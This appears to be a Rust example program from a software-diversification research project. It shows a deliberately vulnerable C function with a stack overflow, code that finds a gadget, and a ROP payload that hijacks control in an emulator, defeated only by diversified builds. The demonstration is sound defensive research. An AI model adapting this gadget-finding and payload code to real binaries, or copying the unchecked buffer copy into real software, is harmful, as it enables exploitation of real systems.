//! A concrete return-oriented-programming attack (the paper's Figure 1
//! scenario), mounted end-to-end inside the emulator — and defeated by
//! diversification.
//!
//! The victim program has a classic stack buffer overflow: it copies an
//! attacker-controlled global array into a 4-word stack buffer without a
//! bounds check. The attack:
//!
//! 1. **code injection fails** — the stack is W⊕X, so jumping to injected
//!    bytes faults (this is why attackers moved to code reuse, §2.1);
//! 2. **ROP succeeds on the undiversified binary** — the payload overwrites
//!    the return address with a chain of two reused code fragments: an
//!    unintended `pop ebx; pop ebp; ret` inside a function epilogue, and
//!    the tail of the runtime's exit stub (`mov eax, 1; int 0x80`),
//!    together performing `exit(0x41)` without executing a byte of
//!    injected code;
//! 3. **the same payload fails on every diversified version** — the reused
//!    fragments are no longer at the addresses the payload hard-codes.
//!
//! ```sh
//! cargo run --release --example rop_attack
//! ```

use pgsd::cc::emit::Image;
use pgsd::core::driver::{load, BuildConfig};
use pgsd::core::{Session, Strategy};
use pgsd::emu::Exit;

const VICTIM: &str = r#"
int input[16];

int vulnerable(int n) {
    int buf[4];
    // Classic missing bounds check: n > 4 smashes saved registers, the
    // frame pointer and the return address.
    for (int i = 0; i < n; i++) { buf[i] = input[i]; }
    return buf[0];
}

int main(int n) {
    return vulnerable(n);
}
"#;

/// The attacker's marker: a successful exploit makes the program exit
/// with this status instead of its normal result.
const PWNED: i32 = 0x41;

/// Finds the `pop ebx; pop ebp; ret` byte pattern (5B 5D C3) — an
/// unintended entry into a function epilogue — in the *diversifiable* part
/// of the image. (The undiversified runtime also contains epilogues, but a
/// chain built solely from fixed runtime code would survive every version;
/// the paper notes that gap too: the C library "could be easily fixed in
/// practice by also diversifying" it. Real payloads need gadgets from the
/// application as well, which is what we model by taking this one from
/// user code.)
fn find_pop_ebx_gadget(image: &Image) -> Option<u32> {
    let user_start = image
        .funcs
        .iter()
        .filter(|f| f.diversified)
        .map(|f| (f.start - image.base) as usize)
        .min()?;
    image.text[user_start..]
        .windows(3)
        .position(|w| w == [0x5B, 0x5D, 0xC3])
        .map(|off| image.base + (user_start + off) as u32)
}

/// Runs the victim with the attacker's payload in `input` and the
/// overflow length as `n`.
fn run_with_payload(image: &Image, payload: &[i32]) -> Exit {
    let mut emu = load(image);
    let addr = image.global_addr("input").expect("victim has `input`");
    let mut bytes = Vec::new();
    for w in payload {
        bytes.extend_from_slice(&w.to_le_bytes());
    }
    emu.mem.write_bytes(addr, &bytes).expect("payload fits");
    emu.call_entry(image.main_addr, image.exit_addr, &[payload.len() as i32]);
    emu.run(1_000_000)
}

/// Builds the attacker's payload against a *specific* binary: junk to fill
/// the buffer and saved registers, then the chain.
///
/// Stack layout of `vulnerable` (cdecl, slots below the 3 saved registers):
/// `buf[0]` sits at `ebp-28`, so index 8 lands on the return address.
fn build_payload(pop_ebx_gadget: u32, exit_tail: u32) -> Vec<i32> {
    let mut p = vec![0x6a6a6a6a; 8]; // buf[0..4] + saved edi/esi/ebx/ebp
    p[8 - 1] = 0x6a6a6a6a; // saved ebp (explicit for readability)
    let mut chain = vec![
        pop_ebx_gadget as i32, // return address → gadget 1
        PWNED,                 // popped into ebx (the exit status)
        0x6a6a6a6a,            // popped into ebp (don't care)
        exit_tail as i32,      // gadget 2: mov eax, 1; int 0x80
    ];
    p.truncate(8);
    p.append(&mut chain);
    p
}

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let session = Session::from_source("victim", VICTIM);
    let baseline = session.build_with(&BuildConfig::baseline())?;

    // Normal operation.
    let normal = run_with_payload(&baseline, &[7, 0, 0, 0]);
    println!("normal run (no overflow): {normal:?}");

    // --- 1. Code injection is dead: W⊕X. -----------------------------
    let mut emu = load(&baseline);
    let stack_addr = pgsd::cc::emit::STACK_TOP - 4096;
    emu.mem
        .write_bytes(stack_addr, &[0x90, 0xCC]) // nop; int3
        .expect("stack is writable");
    emu.cpu.eip = stack_addr;
    let injected = emu.run(100);
    println!("code injection attempt:   {injected:?}  (W⊕X stops it)");
    assert!(
        matches!(injected, Exit::Fault { .. }),
        "stack must not be executable"
    );

    // --- 2. ROP against the undiversified binary. ---------------------
    let gadget1 = find_pop_ebx_gadget(&baseline).expect("epilogue gadget exists");
    let gadget2 = baseline.exit_addr + 2; // skip `mov ebx, eax`: tail = mov eax,1; int 0x80
    println!(
        "\nattacker's gadgets (from their own copy of the binary):\n  {gadget1:#010x}  pop ebx; pop ebp; ret\n  {gadget2:#010x}  mov eax, 1; int 0x80"
    );
    let payload = build_payload(gadget1, gadget2);
    let owned = run_with_payload(&baseline, &payload);
    println!("ROP against undiversified binary: {owned:?}");
    assert_eq!(owned, Exit::Exited(PWNED), "the chain must take control");
    println!("  => attacker-controlled exit({PWNED:#x}): ATTACK SUCCEEDED");

    // --- 3. The same payload against diversified versions. ------------
    println!("\nreplaying the identical payload against diversified builds (pNOP = 0-30%):");
    let strategy = Strategy::uniform(0.3);
    let mut defeated = 0;
    let n = 10;
    for seed in 0..n {
        let image = session.build_with(&BuildConfig::diversified(strategy, seed))?;
        let outcome = run_with_payload(&image, &payload);
        let pwned = outcome == Exit::Exited(PWNED);
        println!(
            "  seed {seed}: {outcome:?}{}",
            if pwned { "  <-- still vulnerable!" } else { "" }
        );
        if !pwned {
            defeated += 1;
        }
    }
    println!("\n{defeated}/{n} diversified versions defeat the attack");
    assert_eq!(
        defeated, n,
        "diversification must break the hard-coded chain"
    );
    Ok(())
}
